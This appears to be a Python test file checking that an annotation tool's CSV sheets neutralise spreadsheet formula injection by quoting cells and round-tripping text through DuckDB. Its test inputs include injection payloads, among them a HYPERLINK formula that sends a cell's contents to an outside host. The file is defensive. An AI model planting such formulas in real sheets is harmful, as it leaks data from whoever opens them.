"""Sheets that people fill in hold no formula, and every text comes back as it was."""

import csv
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gainsay.io.sheets import cell_of_text, text_of_cell
from ingest.human_verdicts import SHOWN, VerdictLanding, land_sheet, write_sheet
from ingest.sinks.duckdb import ensure_raw_schema

FORMULAS = [
    "=HYPERLINK(\"http://elsewhere/?\"&A1)", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "\uff1d1+1", "'=1+1", "''@x",
]  # fmt: skip
PLAIN = ["a dog", "", "2 = 2", "'", "'quoted'", "it's -1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text: str) -> None:
    assert cell_of_text(text) == f"'{text}"
    assert text_of_cell(cell_of_text(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_a_text_stays_as_it_is(text: str) -> None:
    assert cell_of_text(text) == text == text_of_cell(text)


@given(st.text(st.sampled_from("'=+-@\t\r ab\uff1d"), max_size=6))
def test_every_text_comes_back(text: str) -> None:
    assert text_of_cell(cell_of_text(text)) == text
    assert cell_of_text(text)[:1] not in tuple("=+-@\t\r\uff1d")


def test_samples_that_look_like_formulas_come_back_from_a_sheet(tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    with duckdb.connect(tmp_path / "gainsay.duckdb") as connection:
        ensure_raw_schema(connection)
        ids = {"sample_id": "'sample ' || draw", "image_id": "draw"}
        columns = ", ".join(f"{ids.get(name, 'text')} as {name}" for name in SHOWN)
        connection.execute("create schema clash; create schema staging")
        connection.execute(
            f"""
            create table clash.clash__validation as
            select {columns}, 'generated' as origin, draw
            from (select unnest($texts) as text, generate_subscripts($texts, 1) as draw)
            """,
            {"texts": FORMULAS},
        )
        connection.execute(
            "create view staging.stg_clash__human_verdicts as"
            " select * from raw.clash_human_verdicts"
        )
        assert write_sheet(connection, sheet, "generated", 50, "@ann") == len(FORMULAS)

        with sheet.open(newline="") as file:
            rows = list(csv.DictReader(file))
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\uff1d"))]
        answers = dict.fromkeys(
            ("is_contradicted", "is_question_clear", "are_answers_right"), "yes"
        )
        with sheet.open("w", newline="") as file:
            writer = csv.DictWriter(file, rows[0])
            writer.writeheader()
            writer.writerows(row | answers | {"verdict": "accept"} for row in rows)
        assert land_sheet(connection, sheet) == VerdictLanding(len(FORMULAS), 0, 0)
        landed = connection.execute("""
            select conflicting_caption, annotator from raw.clash_human_verdicts order by _position
        """).fetchall()
        assert landed == [(text, "@ann") for text in FORMULAS]
        # what was judged is known again
        assert write_sheet(connection, tmp_path / "next.csv", "generated", 50, "@ann") == 0
